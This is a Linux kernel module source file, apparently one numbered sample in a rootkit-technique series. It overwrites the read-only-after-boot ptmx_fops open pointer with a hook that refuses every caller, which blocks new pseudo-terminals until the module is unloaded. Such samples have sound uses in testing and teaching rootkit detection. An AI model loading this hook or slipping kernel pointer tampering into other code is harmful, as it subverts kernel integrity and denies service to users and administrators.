// SPDX-License-Identifier: GPL-2.0
/*
 * 9. Rewrite data the kernel sealed after boot (__ro_after_init): the open
 * operation of /dev/ptmx (ptmx_fops, filled in at boot from tty_fops) now
 * refuses everyone, so no new pseudo-terminal can be opened.
 */
#include <linux/module.h>
#include <linux/fs.h>
#include "rk_common.h"

static struct file_operations *fops;
static int (*orig)(struct inode *, struct file *);

static int rk_open(struct inode *inode, struct file *file)
{
	return -EACCES;
}

static int __init rk_init(void)
{
	int (*hook)(struct inode *, struct file *) = rk_open;

	fops = (struct file_operations *)rk_lookup("ptmx_fops");
	if (!fops)
		return -ENOENT;
	orig = fops->open;
	rk_write(&fops->open, &hook, sizeof(hook));
	pr_info("rk_ro_after_init: ptmx_fops.open hooked\n");
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(&fops->open, &orig, sizeof(orig));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
